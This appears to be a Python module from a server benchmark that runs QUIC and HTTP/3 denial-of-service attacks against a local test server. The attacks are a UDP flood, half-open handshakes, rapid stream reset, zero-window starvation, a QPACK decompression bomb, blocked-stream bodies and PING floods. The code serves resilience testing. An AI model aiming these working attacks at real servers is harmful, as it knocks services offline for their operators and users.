"""The attacks of bench/hostile over UDP: datagrams of their own making, and connections of aioquic's that do what they please. As
those over TCP, each does a fixed amount of work and then holds what it opened."""

import os
import random
import socket
import ssl
import struct
import sys
import time

from . import quic_sides

UDP_SEGMENT = 103
VERSION = b"\x00\x00\x00\x01"
CONTROL, ENCODER = b"\x00\x04\x00", b"\x02"
# :method GET and :scheme https; :authority a follows, then :path.
COMMON = b"\xd1\xd7\x50\x01a"


def aioquic():
    """Its modules, from where ./peers keeps them."""
    there = os.path.join(quic_sides.PEERS, "quic")
    if there not in sys.path:
        sys.path.append(there)
    from aioquic.quic import configuration, connection
    return configuration, connection


class QuicPeer:
    """A connection of an attacker's, which sends bytes on streams as they are."""

    def __init__(self, port, **settings):
        configuration, connection = aioquic()
        made = configuration.QuicConfiguration(
            alpn_protocols=["h3"], is_client=True, verify_mode=ssl.CERT_NONE, server_name="localhost", **settings)
        made.supported_versions = made.supported_versions[:1]
        self.quic = connection.QuicConnection(configuration=made)
        self.address = ("127.0.0.1", port)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.socket.setblocking(False)
        self.quic.connect(self.address, time.monotonic())

    def flush(self):
        for data, _ in self.quic.datagrams_to_send(time.monotonic()):
            try:
                self.socket.sendto(data, self.address)
            except OSError:
                pass

    def turn(self, wait_s=0.0):
        """Sends what there is, takes what has come within `wait_s`, and says whether the connection goes on."""
        until = time.monotonic() + wait_s
        while True:
            self.flush()
            try:
                while True:
                    self.quic.receive_datagram(self.socket.recv(65536), self.address, time.monotonic())
            except OSError:
                pass
            timer = self.quic.get_timer()
            if timer is not None and timer <= time.monotonic():
                self.quic.handle_timer(time.monotonic())
            if time.monotonic() >= until:
                self.flush()
                return self.quic._close_event is None
            time.sleep(0.001)

    def open(self, bytes_, unidirectional=False, end=False):
        stream = self.quic.get_next_available_stream_id(is_unidirectional=unidirectional)
        self.quic.send_stream_data(stream, bytes_, end_stream=end)
        return stream


def connected(port, count=1, **settings):
    peers = [QuicPeer(port, **settings) for _ in range(count)]
    for _ in range(100):
        if all([peer.turn(0.005) and peer.quic._handshake_confirmed for peer in peers]):
            break
    else:
        raise TimeoutError("the server does not take the attacker's connections")
    for peer in peers:
        peer.open(CONTROL, unidirectional=True)
        peer.turn()
    return peers


def request(path):
    section = b"\x00\x00" + COMMON + b"\x51" + integer(len(path)) + path
    return headers(section)


def headers(section):
    return b"\x01" + struct.pack(">H", 0x4000 | len(section)) + section


def ask_and_close(ports):
    """What an ordinary client does."""
    [peer] = connected(ports["quic"])
    peer.open(request(b"/13B"), end=True)
    peer.turn(0.01)
    peer.quic.close()
    peer.turn(0.01)


def integer(value):
    """Seven bits and more (RFC 7541 §5.1)."""
    return bytes([value]) if value < 127 else bytes([127, value - 127])


def udp_rubbish(ports, _path):
    """Random datagrams as fast as one core sends them, half of them with the beginning of a QUIC packet"""
    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 1200)
    flood.connect(("127.0.0.1", ports["quic"]))
    rubbish = random.Random(1)
    batches = []
    for number in range(16):
        batch = bytearray(rubbish.randbytes(1200 * 40))
        for at in range(0, len(batch), 1200):
            kind = (number + at // 1200) % 4
            if kind == 0:
                # An Initial packet's beginning, whose keys anybody has.
                batch[at:at + 16] = b"\xc3" + VERSION + b"\x08" + rubbish.randbytes(8) + b"\x00\x00"
            elif kind == 1:
                # A version that nobody has.
                batch[at:at + 6] = b"\xc3\x1a\x2a\x3a\x4a\x08"
        batches.append(bytes(batch))
    while True:
        for batch in batches:
            try:
                flood.send(batch)
            except OSError:
                pass


def quic_begun(ports, _path):
    """2,000 connections that are never gone on with, from as many ports: the server may send each of them 3 x its datagram"""
    peers = []
    for _ in range(2000):
        peers.append(QuicPeer(ports["quic"]))
        peers[-1].flush()
    return peers


def h3_rapid_reset(ports, path):
    """4 connections, requests that are reset at once, 1,000 each or until they are ended"""
    peers = connected(ports["quic"], 4)
    for peer in peers:
        for number in range(1000):
            stream = peer.open(request(path))
            peer.flush()
            peer.quic.reset_stream(stream, 0x10c)
            peer.quic.stop_stream(stream, 0x10c)
            if number % 20 == 19 and not peer.turn(0.001):
                break
    return peers


def h3_window_zero(ports, path):
    """4 connections with 100 requests each and 1,000 bytes of credit for all their answers"""
    peers = connected(ports["quic"], 4, max_stream_data=1000, max_data=1000)
    for peer in peers:
        # What is read gives no further credit.
        peer.quic._local_max_data.used = -(1 << 40)
        for _ in range(100):
            peer.open(request(path), end=True)
        peer.turn(0.1)
    return peers


def qpack_bomb(ports, _path):
    """4 connections whose requests name one entry of 4 kB 4,000 times, 100 times over"""
    peers = connected(ports["quic"], 4)
    value = b"x" * 3900
    # Capacity 4096; the name `a` and the value as literals.
    entry = b"\x3f\xe1\x1f" + b"\x41a" + b"\x7f" + bytes([0x80 | (len(value) - 127) & 0x7f, (len(value) - 127) >> 7]) + value
    for peer in peers:
        peer.open(ENCODER + entry, unidirectional=True)
        peer.turn(0.02)
        bomb = headers(b"\x02\x00" + COMMON + b"\xc1" + b"\x80" * 4000)
        for number in range(100):
            peer.open(bomb, end=True)
            if number % 10 == 9 and not peer.turn(0.005):
                break
    return peers


def qpack_blocked(ports, _path):
    """4 connections with 16 requests each that wait for entries that never come, and 16 kB of body behind each"""
    peers = connected(ports["quic"], 4)
    body = b"\x00" + struct.pack(">I", 0x80000000 | 16_000) + b"b" * 16_000
    for peer in peers:
        for _ in range(16):
            peer.open(headers(b"\x09\x00" + COMMON + b"\xc1") + body)
        peer.turn(0.1)
    return peers


def quic_pings(ports, _path):
    """4 connections, 5,000 packets each with nothing but PING, every one to be acknowledged"""
    peers = connected(ports["quic"], 4)
    for number in range(5000):
        for peer in peers:
            peer.quic.send_ping(number)
            peer.flush()
            if number % 50 == 49:
                peer.turn()
    return peers


def control_closed(ports, _path):
    """200 connections, one after another, that close their control stream"""
    for _ in range(200):
        peer = connected(ports["quic"])[0]
        peer.quic.send_stream_data(2, b"", end_stream=True)
        peer.turn(0.005)
    return []


FILE = "/50MB"
TABLE = ((udp_rubbish, (FILE,)), (quic_begun, (FILE,)), (h3_rapid_reset, (FILE, "/page?images=100000&bytes=5000&seed=1")),
         (h3_window_zero, (FILE, "/page?images=100000&bytes=5000&seed=1")), (qpack_bomb, (FILE,)), (qpack_blocked, (FILE,)),
         (quic_pings, (FILE,)), (control_closed, (FILE,)))
